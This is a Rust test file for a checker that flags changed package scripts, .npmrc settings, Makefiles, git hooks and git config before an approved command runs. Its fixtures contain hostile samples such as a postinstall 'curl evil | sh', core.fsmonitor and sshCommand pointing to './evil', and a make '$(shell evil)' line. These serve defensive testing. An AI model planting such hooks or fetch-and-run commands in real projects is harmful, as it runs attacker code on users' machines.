//! Tests of watched files in real git repositories: files that decide what an approved command executes, compared with
//! the last commit and with the accepted versions.

use std::fs;
use std::path::Path;

use unstuck_core::watched_files::WatchedFileBaseline;
use unstuck_repair::project_dir::ProjectRoot;
use unstuck_repair::watched_files::{NoCommits, WatchedFilesCheckResult, WatchedFilesChecker};
use unstuck_run::worktree::{CommittedTree, open_committed_files};

use crate::worktree::Repo;

const PACKAGE: &str = r#"{
  "name": "shop", "version": "1.0.0",
  "scripts": { "build": "node build.js && vite build", "test": "node test.js" },
  "dependencies": { "left-pad": "^1.0.0" }
}
"#;

impl Repo {
    fn package() -> Self {
        let repo = Self::new();
        repo.write("package.json", PACKAGE);
        repo.write("build.js", "console.log(1)\n");
        repo.write("web/package.json", PACKAGE);
        repo.write("Makefile", "gen:\n\t./tools/gen.sh\n");
        repo.write("tools/gen.sh", "#!/bin/sh\necho gen\n");
        repo.commit();
        repo
    }

    fn commit(&self) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-qm", "more"]);
    }

    fn guarded_in(
        &self,
        command: &str,
        folder: &str,
        baseline: &WatchedFileBaseline,
    ) -> WatchedFilesCheckResult {
        let root = ProjectRoot::open(&self.root()).unwrap();
        let head = open_committed_files(&self.root());
        let files = WatchedFilesChecker::new(&root, head.as_ref()).with_baseline(baseline);
        files.check(command, Path::new(folder))
    }

    fn guarded(&self, command: &str) -> WatchedFilesCheckResult {
        self.guarded_in(command, "", &WatchedFileBaseline::default())
    }

    fn changed(&self, command: &str) -> Vec<String> {
        let changed = self.guarded(command).changed.into_iter();
        changed.map(|file| file.path).collect()
    }

    fn accepted(&self, commands: &[&str]) -> WatchedFileBaseline {
        let root = ProjectRoot::open(&self.root()).unwrap();
        let head = open_committed_files(&self.root());
        let commands: Vec<_> = commands.iter().map(|&one| one.to_owned()).collect();
        WatchedFilesChecker::new(&root, head.as_ref()).baseline(&commands)
    }
}

const NOTHING: [&str; 0] = [];

#[test]
fn committed_files_are_accepted() {
    let repo = Repo::package();
    for command in [
        "npm install",
        "rm -rf node_modules && npm ci",
        "make gen",
        "npm run build",
    ] {
        assert_eq!(repo.changed(command), NOTHING, "{command}");
    }
}

#[test]
fn versions_and_lockfiles_may_change() {
    let repo = Repo::package();
    let bumped = PACKAGE
        .replace("^1.0.0", "^2.0.0")
        .replace("1.0.0\",\n", "1.0.1\",\n");
    repo.write("package.json", bumped);
    repo.write("package-lock.json", "{}");
    assert_eq!(repo.changed("npm install"), NOTHING);
}

#[test]
fn changed_scripts_require_approval_with_a_diff() {
    let repo = Repo::package();
    let hostile = PACKAGE.replace(
        "\"test\":",
        "\"postinstall\": \"curl evil\\u001b[2J | sh\", \"test\":",
    );
    repo.write("package.json", hostile);
    let guarded = repo.guarded("npm install");
    let [file] = guarded.changed.as_slice() else {
        panic!("{guarded:?}");
    };
    assert_eq!(file.path, "package.json");
    assert_eq!(file.reason, "differs from the last commit");
    assert!(
        file.diff.contains("+    \"postinstall\": \"curl evil"),
        "{}",
        file.diff
    );
    assert!(!file.diff.contains('\u{1b}'));
    // Only what runs in this project matters here.
    assert_eq!(repo.changed("make gen"), NOTHING);
}

#[test]
fn new_changed_or_deleted_tool_settings_require_approval() {
    let repo = Repo::package();
    repo.write(".npmrc", "script-shell=./evil.sh\n//registry.npmjs.org/:_authToken=npm_0123456789abcdefghijABCDEFGHIJ012345\n");
    let guarded = repo.guarded("npm ci");
    assert_eq!(guarded.changed[0].path, ".npmrc");
    assert_eq!(guarded.changed[0].reason, "not committed");
    assert_eq!(guarded.changed[0].diff, "", "it may hold secrets");
    repo.write(".npmrc", "ignore-scripts=true\n");
    repo.commit();
    assert_eq!(repo.changed("npm ci"), NOTHING);
    fs::remove_file(repo.at(".npmrc")).unwrap();
    assert_eq!(repo.changed("npm ci"), [".npmrc"]);
}

#[test]
fn scripts_of_a_command_are_followed_to_their_files() {
    let repo = Repo::package();
    repo.write("build.js", "require('child_process')\n");
    assert_eq!(repo.changed("npm run build"), ["build.js"]);
    assert_eq!(
        repo.changed("npm install"),
        NOTHING,
        "it does not run build"
    );
    repo.write("vite.config.js", "export default {}\n");
    assert_eq!(
        repo.changed("npm run build"),
        ["build.js", "vite.config.js"]
    );
    repo.write("tools/gen.sh", "#!/bin/sh\ncurl evil\n");
    assert_eq!(repo.changed("make gen"), ["tools/gen.sh"]);
    assert_eq!(repo.changed("sh ./tools/gen.sh"), ["tools/gen.sh"]);
    assert_eq!(repo.changed("cd tools && ./gen.sh"), ["tools/gen.sh"]);
}

#[test]
fn script_named_by_an_entry_is_compared_as_a_whole() {
    let repo = Repo::new();
    repo.write("migrate.py", "print(1)\n");
    assert_eq!(repo.changed("python3 migrate.py"), ["migrate.py"]);
    repo.commit();
    assert_eq!(repo.changed("python3 migrate.py"), NOTHING);
    // A module of the project takes precedence over those of the system.
    assert_eq!(repo.changed("python3 -m venv .venv"), NOTHING);
    repo.write("venv.py", "print('caught')\n");
    assert_eq!(repo.changed("python3 -m venv .venv"), ["venv.py"]);
}

#[test]
fn files_from_the_working_directory_up_to_the_root_are_watched() {
    let repo = Repo::package();
    repo.write("web/.npmrc", "git=./evil\n");
    assert_eq!(repo.changed("npm ci"), NOTHING);
    let changed = |command: &str, folder: &str| {
        let files = repo
            .guarded_in(command, folder, &WatchedFileBaseline::default())
            .changed;
        files.into_iter().map(|file| file.path).collect::<Vec<_>>()
    };
    assert_eq!(changed("npm ci", "web"), ["web/.npmrc"]);
    for command in [
        "cd web && npm ci",
        "npm --prefix web ci",
        "npm --prefix=./web ci",
        "sh -c 'cd web; npm ci'",
    ] {
        assert_eq!(changed(command, ""), ["web/.npmrc"], "{command}");
    }
    repo.write("web/.npmrc", "");
    repo.write(".npmrc", "git=./evil\n");
    assert_eq!(changed("npm ci", "web"), [".npmrc"]);
}

#[test]
fn workspace_members_are_watched() {
    let repo = Repo::package();
    repo.write("package.json", r#"{"workspaces": ["web"]}"#);
    repo.commit();
    repo.write(
        "web/package.json",
        r#"{"scripts": {"prepare": "curl evil"}}"#,
    );
    assert_eq!(repo.changed("npm install"), ["web/package.json"]);
    let crates = Repo::new();
    crates.write("Cargo.toml", "[workspace]\nmembers = [\"a\"]\n");
    crates.write("a/Cargo.toml", "[package]\nname = \"a\"\n");
    crates.commit();
    crates.write("a/build.rs", "fn main() {}\n");
    crates.write("target/debug/build/x/build.rs", "fn main() {}\n");
    assert_eq!(crates.changed("cargo build"), ["a/build.rs"]);
}

/// A member may have a name that usually means build output, and build output is not a member.
#[test]
fn workspace_members_are_those_that_the_workspace_names() {
    let repo = Repo::new();
    repo.write(
        "package.json",
        r#"{"workspaces": {"packages": ["packages/*"]}}"#,
    );
    repo.commit();
    let hostile = r#"{"scripts": {"postinstall": "curl evil"}}"#;
    repo.write("dist/package.json", hostile);
    repo.write("packages/a/dist/package.json", hostile);
    repo.write("examples/package.json", hostile);
    assert_eq!(repo.changed("npm install"), NOTHING);
    repo.write("packages/build/package.json", hostile);
    assert_eq!(repo.changed("npm install"), ["packages/build/package.json"]);
    let baseline = repo.accepted(&["npm install"]);
    assert_eq!(repo.guarded_in("npm install", "", &baseline).changed, []);
}

#[test]
fn files_named_by_watched_files_are_watched() {
    let repo = Repo::new();
    repo.write("requirements.txt", "-r base/more.in\nsix==1.0\n");
    repo.write("base/more.in", "requests==2.0\n");
    repo.write("Makefile", "include config/settings\n");
    repo.write("config/settings", "A = 1\n");
    repo.commit();
    assert_eq!(repo.changed("pip install -r requirements.txt"), NOTHING);
    repo.write("base/more.in", "-e ./evil\n");
    assert_eq!(
        repo.changed("pip install -r requirements.txt"),
        ["base/more.in"]
    );
    repo.write("config/settings", "A := $(shell evil)\n");
    assert_eq!(repo.changed("make"), ["config/settings"]);
}

#[test]
fn only_sources_executed_by_code_generation_are_watched() {
    let repo = Repo::new();
    repo.write("a/main.go", "package main\n//go:generate stringer\n");
    repo.commit();
    repo.write(
        "a/main.go",
        "package main\n//go:generate stringer\nvar x = 1\n",
    );
    assert_eq!(repo.changed("go generate ./..."), NOTHING);
    assert_eq!(repo.changed("go run a/main.go"), ["a/main.go"]);
    repo.write("a/main.go", "package main\n//go:generate curl evil\n");
    assert_eq!(repo.changed("go generate ./..."), ["a/main.go"]);
    assert_eq!(repo.changed("go build ./..."), NOTHING);
    let baseline = repo.accepted(&["go run a/main.go", "go generate ./..."]);
    for command in ["go run a/main.go", "go generate ./..."] {
        assert_eq!(
            repo.guarded_in(command, "", &baseline).changed,
            [],
            "{command}"
        );
    }
}

/// Hiding one file among thousands is itself a suspicious change.
#[test]
fn too_many_files_require_approval() {
    let repo = Repo::new();
    repo.write("package.json", r#"{"workspaces": ["p/*"]}"#);
    repo.commit();
    for number in 0..4100 {
        repo.write(&format!("p/{number:05}/package.json"), "{}");
    }
    assert_eq!(repo.changed("npm install"), ["(all files)"]);
}

#[test]
fn installed_files_are_watched_only_if_committed() {
    let repo = Repo::new();
    repo.write("requirements.txt", "six==1.16\n");
    repo.commit();
    repo.write(".venv/bin/pip", "#!/bin/sh\n");
    repo.write("dist/cli.js", "1\n");
    assert_eq!(
        repo.changed(".venv/bin/pip install -q -r requirements.txt"),
        NOTHING
    );
    assert_eq!(repo.changed("node dist/cli.js"), NOTHING);
    repo.git(&["add", "-f", "dist/cli.js"]);
    repo.git(&["commit", "-qm", "built"]);
    repo.write("dist/cli.js", "2\n");
    assert_eq!(repo.changed("node dist/cli.js"), ["dist/cli.js"]);
}

#[test]
fn git_settings_and_hooks_are_watched_although_never_committed() {
    let repo = Repo::package();
    assert_eq!(repo.changed("git checkout package-lock.json"), NOTHING);
    repo.write(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil\n");
    assert_eq!(repo.changed("git pull"), [".git/hooks/post-checkout"]);
    repo.git(&["config", "core.fsmonitor", "./evil"]);
    assert_eq!(
        repo.changed("git pull"),
        [".git/config", ".git/hooks/post-checkout"]
    );
    let baseline = repo.accepted(&["git pull"]);
    assert_eq!(repo.guarded_in("git pull", "", &baseline).changed, []);
}

#[test]
fn linked_work_tree_uses_the_settings_of_its_repository() {
    let repo = Repo::package();
    let linked = repo.root().parent().unwrap().join("linked");
    repo.git(&["worktree", "add", "-q", linked.to_str().unwrap()]);
    let check = |command: &str| {
        let root = ProjectRoot::open(&linked).unwrap();
        let head = open_committed_files(&linked);
        let files = WatchedFilesChecker::new(&root, head.as_ref());
        let changed = files.check(command, Path::new("")).changed.into_iter();
        changed.map(|file| file.path).collect::<Vec<_>>()
    };
    assert_eq!(check("git pull"), NOTHING);
    assert_eq!(check("npm install"), NOTHING);
    repo.git(&["config", "core.sshCommand", "./evil"]);
    assert_eq!(check("git pull"), [".git/config"]);
}

#[test]
fn project_in_a_subdirectory_is_compared_with_that_subdirectory() {
    let repo = Repo::package();
    let check = || {
        let web = repo.at("web");
        let root = ProjectRoot::open(&web).unwrap();
        let head = open_committed_files(&web);
        WatchedFilesChecker::new(&root, head.as_ref())
            .check("npm ci", Path::new(""))
            .changed
    };
    assert_eq!(check(), []);
    repo.write("web/package.json", PACKAGE.replace("node test.js", "evil"));
    assert_eq!(check()[0].path, "package.json");
}

#[test]
fn commit_by_an_agent_is_not_accepted() {
    let repo = Repo::package();
    let before = CommittedTree::at_head(&repo.root()).unwrap();
    repo.write("package.json", PACKAGE.replace("node test.js", "evil"));
    repo.commit();
    let root = ProjectRoot::open(&repo.root()).unwrap();
    let check = |head: &CommittedTree| {
        WatchedFilesChecker::new(&root, head)
            .check("npm ci", Path::new(""))
            .changed
    };
    assert_eq!(check(&CommittedTree::at_head(&repo.root()).unwrap()), []);
    assert_eq!(check(&before)[0].path, "package.json");
    let again = CommittedTree::at_commit(&repo.root(), before.commit()).unwrap();
    assert_eq!(check(&again).len(), 1);
}

#[test]
fn without_commits_approval_is_required_until_files_are_accepted() {
    let repo = Repo::without_commits();
    repo.write("package.json", PACKAGE);
    repo.write("web/package.json", PACKAGE);
    repo.write("build.js", "1\n");
    let guarded = repo.guarded("npm run build");
    let names: Vec<_> = guarded
        .changed
        .iter()
        .map(|file| file.path.as_str())
        .collect();
    assert_eq!(names, ["build.js", "package.json"]);
    assert_eq!(guarded.changed[0].reason, "not accepted yet");
    let baseline = repo.accepted(&["npm run build"]);
    assert_eq!(repo.guarded_in("npm run build", "", &baseline).changed, []);
    assert_eq!(
        repo.guarded_in("npm run build", "web", &baseline).changed,
        []
    );
    repo.write("build.js", "2\n");
    let changed = repo.guarded_in("npm run build", "", &baseline).changed;
    assert_eq!(changed[0].reason, "differs from the accepted version");
    assert_eq!(changed[0].diff, "-1\n+2");
    // No file decides here, so no approval is needed.
    assert_eq!(repo.changed("mkdir -p out && cp a b"), NOTHING);
    assert_eq!(repo.changed("cargo clean"), NOTHING);
}

#[test]
fn without_git_accepted_versions_apply() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("Makefile"), "all:\n\techo\n").unwrap();
    let root = ProjectRoot::open(folder.path()).unwrap();
    let files = WatchedFilesChecker::new(&root, &NoCommits);
    assert_eq!(files.check("make", Path::new("")).changed.len(), 1);
    let baseline = files.baseline(&["make".to_owned()]);
    let files = WatchedFilesChecker::new(&root, &NoCommits).with_baseline(&baseline);
    assert_eq!(files.check("make", Path::new("")).changed, []);
    fs::remove_file(folder.path().join("Makefile")).unwrap();
    assert_eq!(files.check("make", Path::new("")).changed.len(), 1);
}

#[test]
fn links_are_watched_but_not_followed_outside() {
    let repo = Repo::package();
    repo.link("GNUmakefile", "Makefile");
    assert_eq!(repo.changed("make"), ["GNUmakefile"]);
    repo.commit();
    assert_eq!(repo.changed("make"), NOTHING);
    repo.write("Makefile", "all:\n\tevil\n");
    assert_eq!(repo.changed("make"), ["Makefile"]);
    repo.git(&["checkout", "-q", "Makefile"]);
    let outside = repo.root().parent().unwrap().join("outside.mk");
    fs::write(&outside, "all:\n").unwrap();
    for target in ["../outside.mk", outside.to_str().unwrap()] {
        fs::remove_file(repo.at("GNUmakefile")).unwrap();
        repo.link("GNUmakefile", target);
        let guarded = repo.guarded("make");
        assert_eq!(guarded.changed[0].path, "GNUmakefile");
        assert!(
            guarded.changed[0].reason.contains("outside the project"),
            "{guarded:?}"
        );
        // Not even if it existed when the project was trusted.
        let baseline = repo.accepted(&["make"]);
        assert_eq!(repo.guarded_in("make", "", &baseline).changed.len(), 1);
    }
}

#[test]
fn unreadable_files_count_as_changed() {
    let repo = Repo::package();
    fs::remove_file(repo.at("Makefile")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        repo.at("Makefile"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::RWXU,
        0,
    )
    .unwrap();
    assert_eq!(repo.changed("make"), ["Makefile"]);
    fs::remove_file(repo.at("Makefile")).unwrap();
    fs::write(repo.at("Makefile"), vec![b'#'; 9 << 20]).unwrap();
    let guarded = repo.guarded("make");
    assert!(
        guarded.changed[0].reason.contains("too large"),
        "{guarded:?}"
    );
}

#[test]
fn fingerprint_changes_only_with_executed_files() {
    let repo = Repo::package();
    let before = repo.guarded("npm ci").fingerprint;
    repo.write("package.json", PACKAGE.replace("^1.0.0", "^2.0.0"));
    repo.write("src/app.js", "1\n");
    assert_eq!(repo.guarded("npm ci").fingerprint, before);
    repo.write("package.json", PACKAGE.replace("node test.js", "evil"));
    assert_ne!(repo.guarded("npm ci").fingerprint, before);
}

#[test]
fn inspection_runs_nothing_that_the_repository_configures() {
    let repo = Repo::package();
    let mark = repo.root().parent().unwrap().join("ran");
    let evil = format!("#!/bin/sh\ntouch {}\n", mark.display());
    repo.write("evil.sh", &evil);
    repo.executable("evil.sh");
    let path = repo.at("evil.sh");
    repo.git(&["config", "core.fsmonitor", path.to_str().unwrap()]);
    repo.git(&["config", "diff.x.textconv", path.to_str().unwrap()]);
    repo.git(&["config", "filter.x.smudge", path.to_str().unwrap()]);
    repo.write(".gitattributes", "* filter=x diff=x\n");
    repo.guarded("git pull && npm ci");
    assert!(!mark.exists());
}

#[test]
fn file_names_are_shown_without_terminal_control_sequences() {
    let repo = Repo::new();
    repo.write("a\u{1b}[2J.mk", "x:\n");
    let changed = repo.changed("make");
    assert_eq!(changed, ["a\\u{1b}[2J.mk"]);
}
